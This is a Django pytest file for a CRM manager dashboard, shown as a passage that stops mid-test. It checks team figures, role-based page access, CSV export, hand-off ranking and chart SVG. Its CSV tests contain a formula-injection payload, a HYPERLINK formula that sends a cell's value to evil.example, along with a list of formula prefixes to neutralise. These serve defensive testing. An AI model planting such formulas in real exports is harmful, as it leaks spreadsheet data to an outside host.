"""The manager's cockpit: a team built through the CRM's own services, day by day, and every
figure on the team page, the director page, the CSV and the hand-off suggestion checked
against a hand count. Also who may open which page, the charts' SVG, and the query counts.

The coaching conftest freezes the clock on Monday 3 March 2025, 10:00 in Shanghai (day 0);
`clock.move_to(day(n))` moves it on.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from decimal import Decimal
from html import unescape
from typing import TYPE_CHECKING, Any

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from coaching import charts, cockpit
from coaching import services as coach
from coaching.views.cockpit import neutralise
from crm import services as crm
from crm.models import ActivityKind, Currency, Outcome, Report, ReportKind, Role, Source, Team
from crm.pipeline import Stage
from tests.coaching.helpers import START
from tests.factories import lead_new, make_user, report_sent

if TYPE_CHECKING:
    from crm.models import Lead, User
    from tests.conftest import Company

pytestmark = pytest.mark.django_db
SVG = "{http://www.w3.org/2000/svg}"
TOM = '<Tom & "Jerry">'
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def day(n: float) -> dt.datetime:
    return START + dt.timedelta(days=n)


def lead_for(manager: User, company: str, to: User | None = None, **data: Any) -> Lead:
    """A lead the manager creates in the team pool and, if `to` is given, hands down."""
    return lead_new(manager, company, to=to, note="Yours", **({"source": Source.TRADE_SHOW} | data))


def send(author: User, lead: Lead | None, kind: str = ReportKind.PROGRESS, **parts: Any) -> Report:
    """A report written and sent the way the compose page does: a draft, then submit."""
    today = timezone.localdate()
    kinds: dict[str, dict[str, Any]] = {
        ReportKind.PROGRESS: {
            "status_now": "Met the buyer.",
            "what_i_did": "Sent the revised quote.",
            "next_step": "Demo for the engineers.",
            "next_step_due": today + dt.timedelta(days=3),
            "backup_plan": "Invite them to a reference customer.",
        },
        ReportKind.QUESTION: {
            "status_now": "The buyer went quiet.",
            "ask": "How would you reopen the talk with a silent buyer?",
        },
        ReportKind.ESCALATION: {
            "status_now": "The competitor is entrenched.",
            "next_step": "Wait at their door on Thursday.",
            "ask": "A joint visit with you next week.",
            "ask_due": today + dt.timedelta(days=7),
        },
    }
    base = kinds[kind]
    return report_sent(author, lead, **({"kind": kind} | base | parts))


def move(actor: User, lead: Lead, *stages: str) -> None:
    for stage in stages:
        crm.lead_change_stage(
            actor=actor, lead=lead, to_stage=stage, reason="No budget" if stage == "lost" else ""
        )


@dataclass
class Built:
    """Team A after twenty days, as laid out in `built`'s docstring."""

    c: Company
    rep_a3: User
    rib1: Lead
    delta: Lead
    win: Lead
    lose: Lead
    rib2: Lead
    rib3: Lead
    ask_a1: Report
    plan_a2: Report


@pytest.fixture
def built(company: Company, clock: time_machine.Traveller) -> Built:
    """Team A, day by day (day 0 = START; the company's leads were handed down on day 0):

    day 0   rib1 (鸡肋, CNY 5000) → rep_a2; Delta (USD 300), Win (8000), Lose → rep_a1
    day 1   rep_a1 reports on lead_a1 (full: 100, on time); rep_a2 on rib1 without a backup
            plan (85, on time)
    day 2   manager_a acknowledges rep_a1's report; rep_a2 calls about lead_a2
    day 3   lead_a1 → contacted; Win → qualified → proposal; Lose → lost
    day 10  rep_a1 reports on lead_a1 again, late (9 days), no backup, no date (70)
    day 12  rep_a1 asks a question (80, on time, the ask stays open)
    day 14  rib2, rib3 (鸡肋, CNY 2000 each) created and handed to rep_a3 (`<Tom & "Jerry">`)
    day 15  lead_a1 → qualified and a visit logged; Win → won, rep_a1 thanks manager_a
    day 16  rep_a2 sends an escalation plan on rib1, late (15 days), no date (85), open ask
    day 20  now.
    """
    c = company
    rep_a3 = make_user(username="rep_a3", display_name=TOM, role=Role.REP)
    crm.rep_join_team(user=rep_a3, team=c.team_a)
    m = c.manager_a
    rib = {"is_chicken_rib": True, "chicken_rib_reasons": ["competitor"]}
    rib1 = lead_for(m, "Rib One", c.rep_a2, value=5000, **rib)
    delta = lead_for(m, "Delta Export", c.rep_a1, value=300, currency=Currency.USD)
    win = lead_for(m, "Win Co", c.rep_a1, value=8000)
    lose = lead_for(m, "Lose Co", c.rep_a1)

    clock.move_to(day(1))
    first_a1 = send(c.rep_a1, c.lead_a1)
    send(c.rep_a2, rib1, backup_plan="")
    clock.move_to(day(2))
    crm.report_acknowledge(actor=m, report=first_a1)
    crm.activity_log(
        actor=c.rep_a2, lead=c.lead_a2, kind=ActivityKind.CALL, outcome=Outcome.REACHED
    )
    clock.move_to(day(3))
    move(c.rep_a1, c.lead_a1, Stage.CONTACTED)
    move(c.rep_a1, win, Stage.QUALIFIED, Stage.PROPOSAL)
    move(c.rep_a1, lose, Stage.LOST)
    clock.move_to(day(10))
    send(c.rep_a1, c.lead_a1, backup_plan="", next_step_due=None)
    clock.move_to(day(12))
    ask_a1 = send(c.rep_a1, None, ReportKind.QUESTION)
    clock.move_to(day(14))
    rib2 = lead_for(m, "Rib Two", rep_a3, value=2000, **rib)
    rib3 = lead_for(m, "Rib Three", rep_a3, value=2000, **rib)
    clock.move_to(day(15))
    move(c.rep_a1, c.lead_a1, Stage.QUALIFIED)
    crm.activity_log(actor=c.rep_a1, lead=c.lead_a1, kind=ActivityKind.VISIT)
    move(c.rep_a1, win, Stage.WON)
    coach.thanks_send(author=c.rep_a1, lead=win, body="Thank you for Win Co.")
    clock.move_to(day(16))
    plan_a2 = send(c.rep_a2, rib1, ReportKind.ESCALATION)
    clock.move_to(day(20))
    return Built(c, rep_a3, rib1, delta, win, lose, rib2, rib3, ask_a1, plan_a2)


# --- Page parsing ----------------------------------------------------------------------------


def text_of(html: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())


def figures(html: str, attribute: str, key: object) -> dict[str, str]:
    """The data-figure cells of the table row marked `attribute="key"`, as plain text."""
    row = re.search(rf'<tr {attribute}="{key}">(.*?)</tr>', html, re.DOTALL)
    assert row, f"no row {attribute}={key}"
    cells = re.findall(r'data-figure="(\w+)">(.*?)</td>', row.group(1), re.DOTALL)
    return {name: text_of(cell) for name, cell in cells}


def page(client: Any, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


# --- The figures, against a hand count ---------------------------------------------------------


def test_rep_rows_match_a_hand_count(built: Built) -> None:
    c = built.c
    rows = {r.key: r for r in cockpit.rep_rows(team=c.team_a, days=30)}
    assert list(rows) == [built.rep_a3.pk, c.rep_a1.pk, c.rep_a2.pk]  # by display name: "<", "r"

    a1 = rows[c.rep_a1.pk]
    assert (a1.open_leads, a1.rib_open, a1.rib_share) == (2, 0, 0)
    assert a1.open_values == [("CNY", Decimal("1000")), ("USD", Decimal("300"))]
    assert (a1.stalled, a1.oldest_stalled_company) == (1, "Delta Export")
    assert a1.last_report_at == day(12) and a1.days_since_report == 8
    # day 1 on time (100), day 10 late (70), day 12 question on time (80)
    assert (a1.reports, a1.on_time, a1.on_time_share) == (3, 2, 67)
    assert a1.quality == pytest.approx((100 + 70 + 80) / 3)
    assert (a1.handed_won, a1.handed_lost, a1.conversion) == (1, 1, 50)
    assert (a1.wins_thanked, a1.thanks_share) == (1, 100)
    assert (a1.open_asks, a1.oldest_ask_days) == (1, 8)
    assert (a1.handed_out, a1.handed_out_rib) == (4, 0)  # lead_a1, Delta, Win, Lose

    a2 = rows[c.rep_a2.pk]
    assert (a2.open_leads, a2.rib_open, a2.rib_share) == (2, 1, 50)
    assert a2.open_values == [("CNY", Decimal("6000"))]
    # rib1 idle since its hand-off on day 0; lead_a2 since the call on day 2
    assert (a2.stalled, a2.oldest_stalled_company, a2.oldest_stalled_id) == (
        2,
        "Rib One",
        built.rib1.pk,
    )
    assert a2.days_since_report == 4
    assert (a2.reports, a2.on_time, a2.quality) == (2, 1, 85)
    assert (a2.handed_won, a2.handed_lost, a2.conversion, a2.thanks_share) == (0, 0, None, None)
    assert (a2.open_asks, a2.oldest_ask_days) == (1, 4)
    assert (a2.handed_out, a2.handed_out_rib, a2.handed_out_rib_share) == (2, 1, 50)

    a3 = rows[built.rep_a3.pk]
    assert a3.name == TOM
    assert (a3.open_leads, a3.rib_share, a3.stalled) == (2, 100, 0)
    assert a3.open_values == [("CNY", Decimal("4000"))]
    assert (a3.last_report_at, a3.days_since_report, a3.reports, a3.quality) == (
        None,
        None,
        0,
        None,
    )
    assert (a3.handed_out, a3.handed_out_rib_share) == (2, 100)


def test_a_shorter_period_counts_only_its_days(built: Built) -> None:
    """Seven days back from day 20 is day 13: only the escalation plan (day 16), the win
    (day 15) and the hand-offs of day 14 fall inside."""
    c = built.c
    rows = {r.key: r for r in cockpit.rep_rows(team=c.team_a, days=7)}
    a1, a2, a3 = rows[c.rep_a1.pk], rows[c.rep_a2.pk], rows[built.rep_a3.pk]
    assert (a1.reports, a1.quality, a1.on_time_share) == (0, None, None)
    assert (a1.handed_won, a1.handed_lost, a1.conversion, a1.thanks_share) == (1, 0, 100, 100)
    assert (a2.reports, a2.on_time, a2.quality) == (1, 0, 85)
    assert (a1.handed_out, a2.handed_out, a3.handed_out, a3.handed_out_rib) == (0, 0, 2, 2)
    # Not bound to the period: open leads, last report, open asks.
    assert (a1.open_leads, a1.days_since_report, a1.open_asks) == (2, 8, 1)


def test_the_team_row_adds_up_the_team_and_its_pool(built: Built) -> None:
    c = built.c
    (team,) = cockpit.team_rows(teams=Team.objects.filter(pk=c.team_a.pk), days=30)
    assert (team.name, team.reps, team.manager) == ("Team A", 3, "manager_a")
    assert team.open_leads == 7  # 2 + 2 + 2 and Pool Foods
    assert team.open_values == [("CNY", Decimal("12000")), ("USD", Decimal("300"))]
    assert (team.rib_open, team.rib_share) == (3, round(100 * 3 / 7))
    # Pool Foods, Rib One and Delta Export idle since day 0 (Pool Foods made first); lead_a2
    assert (team.stalled, team.oldest_stalled_company) == (4, "Pool Foods")
    assert team.days_since_report == 4
    assert (team.reports, team.on_time) == (5, 3)
    assert team.quality == pytest.approx((100 + 70 + 80 + 85 + 85) / 5)
    assert (team.handed_won, team.handed_lost, team.wins_thanked) == (1, 1, 1)
    assert (team.open_asks, team.oldest_ask_days) == (2, 8)
    assert team.unacknowledged == 4  # all but rep_a1's first report
    assert (team.handed_out, team.handed_out_rib) == (8, 3)


def test_the_team_pages_whole_team_row_is_the_team_row_it_shows(built: Built) -> None:
    """The team page reads its whole-team row on its own (coaching.cockpit.team_total): every
    figure the page shows of it equals the +2's row for the team, the oldest stalled lead
    being the first of the stalled list."""
    c = built.c
    now = timezone.now()
    cube = cockpit.lead_cube(c.team_a.leads.all(), days=30, now=now, teams=[c.team_a.pk])
    (row,) = cockpit.team_rows(teams=Team.objects.filter(pk=c.team_a.pk), days=30, now=now)
    stalled = cockpit.stalled_leads(team=c.team_a, now=now)
    total = cockpit.team_total(
        team=c.team_a, days=30, now=now, cube=cube, oldest_stalled=stalled[0]
    )
    shown = {name: getattr(row, name) for name in vars(row)}
    for name in ("reps", "manager", "handed_out", "handed_out_rib"):  # the +2's table only
        del shown[name]
    assert {name: getattr(total, name) for name in shown} == shown
    assert (total.oldest_stalled_company, total.stalled) == ("Pool Foods", 4)
    none_stalled = cockpit.team_total(
        team=c.team_a, days=30, now=now, cube=cube, oldest_stalled=None
    )
    assert (none_stalled.oldest_stalled_id, none_stalled.oldest_stalled_company) == (None, "")


def test_the_ranking_reads_every_figure_it_shows_and_sorts_by(built: Built) -> None:
    """The +2's ranking skips each rep's oldest stalled lead and hand-offs (not shown there);
    every other figure is the team page's."""
    c = built.c
    now = timezone.now()
    teams = [c.team_a.pk, c.team_b.pk]
    full = {r.key: r for r in cockpit.reps_across(teams=teams, days=30, now=now)}
    ranked = {r.key: r for r in cockpit.reps_across(teams=teams, days=30, now=now, ranking=True)}
    assert ranked.keys() == full.keys() and len(full) >= 4
    skipped = ("oldest_stalled_id", "oldest_stalled_company", "handed_out", "handed_out_rib")
    for key, row in full.items():
        kept = {name: value for name, value in vars(row).items() if name not in skipped}
        assert {name: getattr(ranked[key], name) for name in kept} == kept
    assert any(row.handed_out for row in full.values())
    assert any(row.oldest_stalled_id for row in full.values())


def test_the_pipeline_and_its_change_since_last_week(built: Built) -> None:
    """Seven days back (day 13): lead_a1 was contacted, Win in proposal, Rib Two and Rib Three
    did not exist yet."""
    c = built.c
    pipes = cockpit.pipelines(leads=c.team_a.leads.all(), key="team")
    rows = {row.stage: row for row in pipes[c.team_a.pk]}
    assert [r.stage for r in pipes[c.team_a.pk]] == list(Stage.values)
    counts = {stage: (r.count, r.count_before, r.change_text) for stage, r in rows.items()}
    assert counts == {
        "new": (6, 4, "+2"),
        "contacted": (0, 1, "−1"),
        "qualified": (1, 0, "+1"),
        "proposal": (0, 1, "−1"),
        "negotiation": (0, 0, "0"),
        "won": (1, 0, "+1"),
        "lost": (1, 1, "0"),
    }
    assert rows["new"].totals == [("CNY", Decimal("11000")), ("USD", Decimal("300"))]
    assert rows["won"].totals == [("CNY", Decimal("8000"))]


def test_stalled_leads_show_days_idle_and_the_plan_waiting(built: Built) -> None:
    c = built.c
    stalled: list[Any] = cockpit.stalled_leads(team=c.team_a)  # annotated leads
    assert [(lead.company, lead.idle_for.days, lead.open_plan_id) for lead in stalled] == [
        ("Pool Foods", 20, None),
        ("Rib One", 20, built.plan_a2.pk),
        ("Delta Export", 20, None),
        (c.lead_a2.company, 18, None),
    ]
    crm.report_decide(actor=c.manager_a, report=built.plan_a2, decision="keep_pushing")
    after: list[Any] = cockpit.stalled_leads(team=c.team_a)
    assert [lead.open_plan_id for lead in after] == [None] * 4


def test_the_managers_own_debt(built: Built) -> None:
    c = built.c
    debt = cockpit.my_debt(user=c.manager_a, team=c.team_a)
    assert debt is not None
    assert debt["counts"] == {"unacknowledged": 4, "asks": 2}
    assert [r.pk for r in debt["asks"]] == [built.ask_a1.pk, built.plan_a2.pk]
    assert [r.waited.days for r in debt["asks"]] == [8, 4]
    assert [r.submitted_at for r in debt["unacknowledged"]] == [day(1), day(10), day(12), day(16)]
    assert cockpit.my_debt(user=c.director, team=c.team_a) is None
    crm.report_answer_ask(actor=c.manager_a, report=built.ask_a1, state="done", note="Call them")
    after = cockpit.my_debt(user=c.manager_a, team=c.team_a)
    assert after is not None and after["counts"] == {"unacknowledged": 4, "asks": 1}


def test_the_debts_counts_from_the_pages_report_cells_match_its_own(built: Built) -> None:
    """The team page passes the reports it read by author (report_cells) to my_debt, which
    counts from them instead of asking again: the same counts, the viewer's own reports left
    out either way (here a report moved to the manager's name)."""
    c = built.c

    def both() -> tuple[Any, Any]:
        cells = cockpit.report_cells([c.team_a.pk], days=30, now=timezone.now())
        alone = cockpit.my_debt(user=c.manager_a, team=c.team_a)
        from_cells = cockpit.my_debt(user=c.manager_a, team=c.team_a, reports=cells)
        assert alone is not None and from_cells is not None
        return alone["counts"], from_cells["counts"]

    assert both() == ({"unacknowledged": 4, "asks": 2},) * 2
    Report.objects.filter(pk=built.ask_a1.pk).update(author=c.manager_a)
    assert both() == ({"unacknowledged": 3, "asks": 1},) * 2


# --- The pages -------------------------------------------------------------------------------


def test_the_team_page_shows_the_figures(built: Built, client_for: Any) -> None:
    c = built.c
    html = page(client_for(c.manager_a), reverse("coach-team"))
    assert figures(html, "data-rep", c.rep_a1.pk) == {
        "open_leads": "2",
        "open_value": "CNY 1,000 USD 300",
        "rib_share": "0%",
        "stalled": "1 Delta Export",
        "last_report": "2025-03-15 8 days ago",
        "on_time": "2/3 · 67%",
        "quality": "83",
        "conversion": "50% (1/2)",
        "thanks": "1/1",
        "asks": "1 (8 days)",
        "nudges": "—",
        "help": "—",
    }
    assert figures(html, "data-rep", built.rep_a3.pk)["last_report"] == "never"
    team = figures(html, "data-team", c.team_a.pk)
    assert (team["open_leads"], team["stalled"], team["asks"]) == (
        "7",
        "4 Pool Foods",
        "2 (8 days)",
    )
    assert figures(html, "data-stage", "new") == {
        "count": "6",
        "value": "CNY 11,000 USD 300",
        "change": "+2",
    }
    assert figures(html, "data-lead", built.rib1.pk)["idle"] == "20"
    assert reverse("report-detail", args=[built.plan_a2.pk]) in html
    # My own debt links to each report waiting for me.
    debt = html[html.index('id="debt-h"') : html.index('id="reps-h"')]
    assert "4 reports I have not acknowledged" in text_of(debt)
    assert "2 asks I have not answered" in text_of(debt)
    assert reverse("report-detail", args=[built.ask_a1.pk]) in debt
    assert TOM not in html and "&lt;Tom &amp; &quot;Jerry&quot;&gt;" in html
    # The nav link, the charts' stylesheet, and no inline style anywhere (the CSP forbids it).
    assert f'href="{reverse("coach-team")}" aria-current="page"' in html
    assert "css/charts.css" in html
    assert not re.search(r"\sstyle=|<style", html)


def test_the_period_filter_is_allow_listed_and_swaps_with_htmx(
    built: Built, client_for: Any
) -> None:
    c = built.c
    client = client_for(c.manager_a)
    week = page(client, reverse("coach-team") + "?days=7")
    assert figures(week, "data-rep", c.rep_a1.pk)["conversion"] == "100% (1/1)"
    assert 'href="?days=7" hx-get="?days=7"' in week and 'aria-current="page">Last 7 days' in week
    odd = page(client, reverse("coach-team") + "?days=3650")
    assert 'aria-current="page">Last 30 days' in odd
    assert "<html" in page(client, reverse("coach-team") + "?days=90")
    swapped = client.get(reverse("coach-team") + "?days=90", headers={"HX-Request": "true"})
    body = swapped.content.decode()
    assert swapped.status_code == 200 and "<html" not in body
    assert body.lstrip().startswith('<div id="cockpit"')


def test_the_page_reads_in_chinese(built: Built, client_for: Any) -> None:
    html = page(client_for(built.c.manager_a, "zh-hans"), reverse("coach-team"))
    english = ("My own debt", "Pipeline funnel", "Change since last week", "Report freshness")
    with translation.override("zh-hans"):
        chinese = [translation.gettext(text) for text in english]
    for text, translated in zip(english, chinese, strict=True):
        assert translated != text and translated in html
        assert text not in html


def test_the_director_page_has_one_row_per_team(built: Built, client_for: Any) -> None:
    c = built.c
    html = page(client_for(c.director), reverse("coach-director"))
    a = figures(html, "data-team", c.team_a.pk)
    assert (a["reps"], a["open_leads"], a["stalled"], a["unacknowledged"]) == (
        "3",
        "7",
        "4 Pool Foods",
        "4",
    )
    assert (a["on_time"], a["quality"], a["conversion"]) == ("3/5 · 60%", "84", "50% (1/2)")
    b = figures(html, "data-team", c.team_b.pk)
    # Team B: Bravo Medical handed to rep_b1 on day 0, never touched since.
    assert (b["reps"], b["open_leads"], b["stalled"], b["last_report"]) == (
        "1",
        "1",
        "1 Bravo Medical",
        "never",
    )
    assert f'href="{reverse("coach-team-detail", args=[c.team_a.pk])}?days=30"' in html
    # The pipeline per team, with the change in brackets; the total over both teams.
    row = re.search(
        rf'<tr data-team="{c.team_a.pk}">(.*?)</tr>', html.split('id="pipes-h"')[1], re.S
    )
    assert row and re.search(r'data-stage="new">6 <span[^>]*>\(\+2\)', row.group(1))
    total = html.split("<tfoot>")[-1]
    assert re.search(r'data-stage="new">7 <span[^>]*>\(\+2\)', total)
    # The drill-down: the team page, with the way back.
    team_page = page(client_for(c.director), reverse("coach-team-detail", args=[c.team_b.pk]))
    assert "Team Team B" in text_of(team_page) and reverse("coach-director") in team_page
    assert 'id="debt-h"' not in team_page  # a +2 does not answer the team's reports


# --- Who may see what ------------------------------------------------------------------------


def urls(c: Company) -> dict[str, str]:
    return {
        "team": reverse("coach-team"),
        "team_a": reverse("coach-team-detail", args=[c.team_a.pk]),
        "team_b": reverse("coach-team-detail", args=[c.team_b.pk]),
        "team_b_query": reverse("coach-team") + f"?team={c.team_b.pk}",
        "csv_a": reverse("coach-team-csv") + f"?team={c.team_a.pk}",
        "csv_b": reverse("coach-team-csv") + f"?team={c.team_b.pk}",
        "director": reverse("coach-director"),
        "suggest": reverse("coach-handoff-suggest"),
    }


# role: the status each URL answers
ACCESS = {
    "rep_a1": dict.fromkeys(
        ("team", "team_a", "team_b", "team_b_query", "csv_a", "csv_b", "director", "suggest"),
        404,
    ),
    "manager_a": {
        "team": 200,
        "team_a": 200,
        "team_b": 404,
        "team_b_query": 404,
        "csv_a": 200,
        "csv_b": 404,
        "director": 404,
        "suggest": 200,
    },
    "director": {
        "team": 302,
        "team_a": 200,
        "team_b": 200,
        "team_b_query": 200,
        "csv_a": 200,
        "csv_b": 200,
        "director": 200,
        "suggest": 404,
    },
    "other_director": {
        "team": 302,
        "team_a": 404,
        "team_b": 404,
        "team_b_query": 404,
        "csv_a": 404,
        "csv_b": 404,
        "director": 200,
        "suggest": 404,
    },
    "admin": dict.fromkeys(
        ("team", "team_a", "team_b", "team_b_query", "csv_a", "csv_b", "director", "suggest"),
        200,
    ),
}


@pytest.mark.parametrize("who", list(ACCESS))
def test_who_may_open_which_cockpit_page(company: Company, client_for: Any, who: str) -> None:
    client = client_for(company.people[who])
    answers = {name: client.get(url).status_code for name, url in urls(company).items()}
    assert answers == ACCESS[who]


def test_odd_team_ids_are_not_found(company: Company, client_for: Any) -> None:
    client = client_for(company.admin)
    for query in ("?team=abc", "?team=-1", "?team=999999"):
        assert client.get(reverse("coach-team") + query).status_code == 404
        assert client.get(reverse("coach-team-csv") + query).status_code == 404


def test_the_other_director_sees_no_team(company: Company, client_for: Any) -> None:
    html = page(client_for(company.other_director), reverse("coach-director"))
    assert "No team reports to you yet." in html
    assert "Team A" not in html


def test_the_nav_link_shows_for_managers_directors_and_admins(
    company: Company, client_for: Any
) -> None:
    def nav(who: str) -> str:
        html = page(client_for(company.people[who]), reverse("my-day"))
        return html[html.index("<nav") : html.index("</nav>")]

    assert f'href="{reverse("coach-team")}"' in nav("manager_a")
    assert f'href="{reverse("coach-team")}"' in nav("admin")
    assert f'href="{reverse("coach-director")}"' in nav("director")
    assert reverse("coach-team") not in nav("rep_a1")
    assert reverse("coach-director") not in nav("rep_a1")


# --- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Acme = good", "Acme = good"),
        ("华润", "华润"),
        (None, ""),
        (12, "12"),
    ],
)
def test_cells_are_neutralised(cell: object, expected: str) -> None:
    assert neutralise(cell) == expected


def test_the_csv_has_the_rep_table_with_formulas_neutralised(built: Built, client_for: Any) -> None:
    c = built.c
    crm.lead_update(actor=c.manager_a, lead=built.delta, data={"company": EVIL})
    response = client_for(c.manager_a).get(
        reverse("coach-team-csv") + f"?team={c.team_a.pk}&days=30"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="kaopu-team-')
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))
    header, *rows = table
    assert header[:3] == ["Rep", "Open leads", "Open value"]
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert list(by_name) == [TOM, "rep_a1", "rep_a2"]
    a1 = by_name["rep_a1"]
    assert a1["Idle the longest"] == "'" + EVIL
    assert a1["Open value"] == "CNY 1000.00; USD 300.00"
    assert (a1["Reports in the last 30 days"], a1["On time"], a1["On-time share (%)"]) == (
        "3",
        "2",
        "67",
    )
    assert (a1["Average quality"], a1["Conversion (%)"], a1["Last report"]) == (
        "83",
        "50",
        "2025-03-15",
    )
    assert by_name[TOM]["Chicken-rib share of open leads (%)"] == "100"
    assert by_name["rep_a2"]["Oldest open ask (days)"] == "4"
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_speaks_the_users_language(built: Built, client_for: Any) -> None:
    response = client_for(built.c.manager_a, "zh-hans").get(reverse("coach-team-csv"))
    header = next(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))
    with translation.override("zh-hans"):
        assert header[1] == translation.gettext("Open leads") != "Open leads"


# --- The hand-off suggestion -----------------------------------------------------------------


def test_the_suggestion_ranks_reliable_reps_and_says_why(built: Built) -> None:
    """Everyone has 2 open leads (load 1 each). rep_a1: on time 2/3, quality 83.3 →
    reliability 0.75, no 鸡肋 → 1.5 − 1 = 0.5. rep_a2: 1/2, 85 → 0.675, one of the two 鸡肋
    leads the most any rep got → 1.35 + 0.5 − 1 = 0.85. rep_a3: no reports, two 鸡肋 → 0."""
    c = built.c
    with translation.override("en"):
        ranked = cockpit.handoff_suggestions(user=c.manager_a)
    assert [(s.rep.username, s.score) for s in ranked] == [
        ("rep_a2", 0.85),
        ("rep_a1", 0.5),
        ("rep_a3", 0.0),
    ]
    assert [s.reason for s in ranked] == [
        "reports on time 1 of 2; average quality 85; 2 open leads; "
        "got 1 chicken-rib lead this month",
        "reports on time 2 of 3; average quality 83; 2 open leads; "
        "got 0 chicken-rib leads this month",
        "no reports in the last 30 days; 2 open leads; got 2 chicken-rib leads this month",
    ]
    with translation.override("zh-hans"):
        zh = cockpit.handoff_suggestions(user=c.manager_a)
    assert [s.rep.username for s in zh] == ["rep_a2", "rep_a1", "rep_a3"]
    assert zh[0].reason == "按时汇报 1/2；平均质量分 85；2 个进行中的商机；本月接了 1 个鸡肋商机"


def test_chicken_rib_leads_of_last_month_do_not_count(
    built: Built, clock: time_machine.Traveller
) -> None:
    """On 1 April the month starts again: no rep got a 鸡肋 lead this month."""
    clock.move_to(dt.datetime(2025, 4, 1, 9, 0, tzinfo=START.tzinfo))
    ranked = cockpit.handoff_suggestions(user=built.c.manager_a)
    assert {s.rep.username: s.rib_this_month for s in ranked} == {
        "rep_a1": 0,
        "rep_a2": 0,
        "rep_a3": 0,
    }


def test_a_lighter_load_moves_a_rep_up(built: Built) -> None:
    """rep_a2 closes a lead: 1 open lead against 2 for the others, so load 0.5."""
    c = built.c
    move(c.rep_a2, c.lead_a2, Stage.LOST)
    ranked = {s.rep.username: s for s in cockpit.handoff_suggestions(user=c.manager_a)}
    assert ranked["rep_a2"].open_leads == 1
    assert ranked["rep_a2"].score == pytest.approx(2 * 0.675 + 0.5 - 0.5)
    assert "1 open lead;" in ranked["rep_a2"].reason


def test_the_hand_off_page_loads_the_suggestion(built: Built, client_for: Any) -> None:
    c = built.c
    client = client_for(c.manager_a)
    handoff = page(client, reverse("lead-handoff"))
    url = reverse("coach-handoff-suggest")
    assert f'hx-get="{url}" hx-trigger="load"' in handoff
    assert f'<a class="small" href="{url}">' in handoff  # without JavaScript, a plain link
    fragment = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert "<html" not in fragment
    items = re.findall(r'<li data-rep="(\d+)">(.*?)</li>', fragment, re.S)
    assert [int(pk) for pk, _ in items] == [c.rep_a2.pk, c.rep_a1.pk, built.rep_a3.pk]
    assert "&lt;Tom &amp; &quot;Jerry&quot;&gt;" in items[2][1]
    assert "reports on time 1 of 2" in text_of(items[0][1])
    full = page(client, url)
    assert "<html" in full and "Who could get the next lead?" in full


# --- Charts ----------------------------------------------------------------------------------


def svgs(html: str) -> list[ET.Element]:
    found = re.findall(r'<svg\b[^>]*class="chart-svg".*?</svg>', html, re.S)
    return [ET.fromstring(svg) for svg in found]


def test_the_charts_are_valid_accessible_svg_with_names_escaped(
    built: Built, client_for: Any
) -> None:
    html = page(client_for(built.c.manager_a), reverse("coach-team"))
    parsed = svgs(html)
    assert len(parsed) == 3
    titles = []
    for svg in parsed:
        assert svg.tag == f"{SVG}svg" and svg.get("role") == "img"
        title = svg.find(f"{SVG}title")
        assert title is not None and title.text
        titles.append(title.text)
        desc = svg.find(f"{SVG}desc")
        assert desc is not None and desc.text
        assert svg.get("aria-labelledby", "").split() == [title.get("id"), desc.get("id")]
        assert not any(el.get("style") for el in svg.iter())
    assert titles == ["Pipeline funnel", "Report freshness", "Quality of the leads handed down"]
    funnel, freshness, ribs = parsed
    labels = [t.text for t in funnel.iter(f"{SVG}text") if t.get("class") == "chart-label"]
    assert labels == ["New", "Contacted", "Qualified", "Proposal", "Negotiation", "Won"]
    values = [t.text for t in funnel.iter(f"{SVG}text") if t.get("class") == "chart-value"]
    assert values == ["6 leads", "0 leads", "1 lead", "0 leads", "0 leads", "1 lead"]
    fresh = {t.text: t for t in freshness.iter(f"{SVG}text") if t.get("class") == "chart-label"}
    assert TOM in fresh  # the name, escaped in the markup, reads back whole
    fresh_values = [t.text for t in freshness.iter(f"{SVG}text") if t.get("class") == "chart-value"]
    assert fresh_values == ["no report yet", "8 days", "4 days"]
    bars = [r.get("class") for r in freshness.iter(f"{SVG}rect")]
    assert bars == ["bar-none", "bar-warn", "bar-ok"]
    rib_values = [t.text for t in ribs.iter(f"{SVG}text") if t.get("class") == "chart-value"]
    assert rib_values == ["100% (2 of 2)", "0% (0 of 4)", "50% (1 of 2)"]
    # Each chart has its table for screen readers (in a hidden box: a table never shrinks to
    # the 1 px of .visually-hidden, and would widen a phone's page).
    assert html.count('<div class="visually-hidden"><table>') == 3
    assert '<th scope="row">&lt;Tom &amp; &quot;Jerry&quot;&gt;</th>' in html


def test_chart_labels_follow_the_language(built: Built) -> None:
    rows = cockpit.rep_rows(team=built.c.team_a, days=30)
    with translation.override("zh-hans"):
        chart = charts.freshness(rows)
    root = ET.fromstring(str(chart.svg))
    title = root.find(f"{SVG}title")
    assert title is not None and title.text != "Report freshness"
    assert re.search(r"[\u4e00-\u9fff]", title.text or "")


def test_an_empty_chart_still_parses() -> None:
    chart = charts.freshness([])
    root = ET.fromstring(str(chart.svg))
    assert root.get("role") == "img"
    assert [t.text for t in root.iter(f"{SVG}text")] == ["Nothing to show yet."]


def test_long_labels_are_shortened_but_kept_whole_in_the_tooltip() -> None:
    name = "A very long rep name that would run into the bars 一二三四五六七八九十"
    row = cockpit.Figures(key=1, name=name, last_report_at=START, days_since_report=3)
    root = ET.fromstring(str(charts.freshness([row]).svg))
    label = next(t for t in root.iter(f"{SVG}text") if t.get("class") == "chart-label")
